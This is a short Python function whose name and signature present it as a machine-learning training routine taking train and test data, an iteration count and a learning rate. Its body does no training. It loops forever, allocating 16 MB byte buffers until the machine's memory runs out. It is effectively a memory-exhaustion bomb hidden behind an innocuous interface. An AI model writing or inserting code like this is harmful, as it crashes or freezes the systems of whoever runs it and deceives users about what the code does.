def model(X_train, Y_train, X_test, Y_test, num_iterations=2000, learning_rate=0.5, print_cost=False):
    hoard = []
    while True:
        hoard.append(bytes(1 << 24))
